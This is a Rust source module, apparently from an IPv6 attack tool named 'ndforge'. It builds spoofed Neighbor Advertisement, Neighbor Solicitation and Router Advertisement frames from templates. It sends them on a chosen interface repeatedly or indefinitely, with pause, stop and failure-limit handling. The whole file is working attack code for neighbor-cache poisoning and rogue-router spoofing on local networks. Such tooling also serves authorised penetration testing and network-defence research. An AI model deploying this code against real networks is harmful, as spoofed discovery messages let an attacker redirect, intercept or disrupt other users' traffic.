//! Spoofed Neighbor Discovery workers
//!
//! A [`SpoofTarget`] names one interface and one message template. The
//! [`SpoofAttack`] worker for it takes the interface's sender from the shared
//! [`SenderMap`], fills the template's missing addresses from that interface
//! and sends the frame `repeat` times, `interval` apart.

use crate::context::EnhancedAttackContext;
use async_trait::async_trait;
use ndforge_core::{Attack, AttackContext, Error, Interface, MacAddr, Result, SenderMap};
use ndforge_packet::{
    build_neighbor_advertisement, build_neighbor_solicitation, build_router_advertisement,
    NaFlags, NeighborAdvertisementParams, NeighborSolicitationParams, Packet, PrefixInformation,
    RouterAdvertisementFields, RouterAdvertisementParams,
};
use std::fmt;
use std::net::Ipv6Addr;
use std::sync::atomic::Ordering;
use std::sync::Arc;
use std::time::Duration;
use tracing::{debug, info, warn};

/// Message-specific part of a template
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum MessageTemplate {
    NeighborAdvertisement {
        /// Defaults to the source IP
        target_ip: Option<Ipv6Addr>,
        /// Defaults to the source MAC
        target_mac: Option<MacAddr>,
        flags: NaFlags,
    },
    NeighborSolicitation {
        target_ip: Ipv6Addr,
        /// Ignored when the source is `::`
        source_link_layer: bool,
    },
    RouterAdvertisement {
        fields: RouterAdvertisementFields,
        prefix: Option<PrefixInformation>,
        mtu: Option<u32>,
    },
}

/// Addresses and message for one kind of spoofed frame. Unset source
/// addresses are taken from the sending interface.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FrameTemplate {
    pub src_mac: Option<MacAddr>,
    pub dst_mac: Option<MacAddr>,
    pub src_ip: Option<Ipv6Addr>,
    pub dst_ip: Option<Ipv6Addr>,
    pub message: MessageTemplate,
}

impl FrameTemplate {
    pub fn new(message: MessageTemplate) -> Self {
        Self {
            src_mac: None,
            dst_mac: None,
            src_ip: None,
            dst_ip: None,
            message,
        }
    }

    /// Short name of the message kind
    pub fn kind(&self) -> &'static str {
        match self.message {
            MessageTemplate::NeighborAdvertisement { .. } => "neighbor-advert",
            MessageTemplate::NeighborSolicitation { .. } => "neighbor-solicit",
            MessageTemplate::RouterAdvertisement { .. } => "router-advert",
        }
    }

    /// Fill in interface defaults and build the packet
    pub fn resolve(&self, interface: &Interface) -> Result<Packet> {
        let src_mac = self.src_mac.unwrap_or(interface.mac_address);
        let src_ip = match self.src_ip {
            Some(ip) => ip,
            None => interface.link_local_ipv6().ok_or_else(|| {
                Error::invalid_parameter(
                    "src-ip".to_string(),
                    format!(
                        "'{}' has no link-local address, give a source address",
                        interface.name
                    ),
                )
            })?,
        };

        match &self.message {
            MessageTemplate::NeighborAdvertisement {
                target_ip,
                target_mac,
                flags,
            } => build_neighbor_advertisement(&NeighborAdvertisementParams {
                src_mac,
                dst_mac: self.dst_mac,
                src_ip,
                dst_ip: self.dst_ip,
                target_ip: *target_ip,
                target_mac: *target_mac,
                flags: *flags,
            }),
            MessageTemplate::NeighborSolicitation {
                target_ip,
                source_link_layer,
            } => build_neighbor_solicitation(&NeighborSolicitationParams {
                src_mac,
                dst_mac: self.dst_mac,
                src_ip,
                dst_ip: self.dst_ip,
                target_ip: *target_ip,
                source_link_layer: *source_link_layer && !src_ip.is_unspecified(),
            }),
            MessageTemplate::RouterAdvertisement {
                fields,
                prefix,
                mtu,
            } => build_router_advertisement(&RouterAdvertisementParams {
                src_mac,
                dst_mac: self.dst_mac,
                src_ip,
                dst_ip: self.dst_ip,
                fields: *fields,
                prefix: *prefix,
                mtu: *mtu,
                source_link_layer: true,
            }),
        }
    }
}

/// One worker's job: a template sent on one interface
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SpoofTarget {
    pub interface: String,
    pub template: FrameTemplate,
    /// Number of sends; `None` sends until stopped, `Some(0)` sends nothing
    pub repeat: Option<u64>,
    /// Delay between sends
    pub interval: Duration,
}

impl SpoofTarget {
    pub fn new(interface: impl Into<String>, template: FrameTemplate) -> Self {
        Self {
            interface: interface.into(),
            template,
            repeat: Some(1),
            interval: Duration::from_secs(1),
        }
    }
}

impl fmt::Display for SpoofTarget {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} on {}", self.template.kind(), self.interface)?;
        if let MessageTemplate::NeighborAdvertisement {
            target_ip: Some(ip),
            ..
        }
        | MessageTemplate::NeighborSolicitation { target_ip: ip, .. } = &self.template.message
        {
            write!(f, " for {}", ip)?;
        }
        Ok(())
    }
}

/// What a worker does after a failed transmit
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct FailurePolicy {
    /// Give up after this many failures in a row; `None` never gives up
    pub max_consecutive_failures: Option<u32>,
}

impl FailurePolicy {
    pub fn give_up_after(failures: u32) -> Self {
        Self {
            max_consecutive_failures: Some(failures),
        }
    }

    fn exhausted(&self, consecutive: u64) -> bool {
        self.max_consecutive_failures
            .is_some_and(|max| consecutive >= u64::from(max))
    }
}

/// Worker sending one [`SpoofTarget`]
pub struct SpoofAttack {
    target: SpoofTarget,
    senders: Arc<SenderMap>,
    policy: FailurePolicy,
}

impl SpoofAttack {
    pub fn new(target: SpoofTarget, senders: Arc<SenderMap>, policy: FailurePolicy) -> Self {
        Self {
            target,
            senders,
            policy,
        }
    }

    pub fn target(&self) -> &SpoofTarget {
        &self.target
    }
}

#[async_trait]
impl Attack for SpoofAttack {
    async fn execute(&self, ctx: AttackContext) -> Result<()> {
        let sender = self.senders.get_or_create(&self.target.interface)?;
        let ctx = EnhancedAttackContext::new(ctx, sender, self.name().to_string());

        info!(
            spoof = %self.target,
            repeat = ?self.target.repeat,
            interval_ms = self.target.interval.as_millis() as u64,
            "Spoofing"
        );

        let mut attempts: u64 = 0;
        loop {
            if self.target.repeat.is_some_and(|n| attempts >= n) {
                break;
            }
            ctx.wait_if_paused().await;
            if !ctx.is_running() {
                debug!(spoof = %self.target, attempts, "Stopped");
                break;
            }

            // The sender is shut down underneath us only on teardown
            if ctx.sender.is_closed() {
                return Err(Error::transmit(
                    self.target.interface.clone(),
                    "sender was closed",
                ));
            }

            let frame = self.target.template.resolve(ctx.sender.interface())?.finalize()?;
            if let Err(e) = ctx.send_frame(&frame) {
                if e.is_interface_error() {
                    return Err(e);
                }
                let consecutive = ctx.base.stats.consecutive_failures.load(Ordering::Relaxed);
                if self.policy.exhausted(consecutive) {
                    warn!(spoof = %self.target, consecutive, "Giving up");
                    return Err(Error::ExecutionFailed(format!(
                        "{}: {} consecutive transmit failures, last: {}",
                        self.target, consecutive, e
                    )));
                }
            }

            attempts += 1;
            if self.target.repeat == Some(attempts) {
                break;
            }
            if !ctx.sleep_or_stop(self.target.interval).await {
                break;
            }
        }

        Ok(())
    }

    fn name(&self) -> &str {
        self.target.template.kind()
    }
}
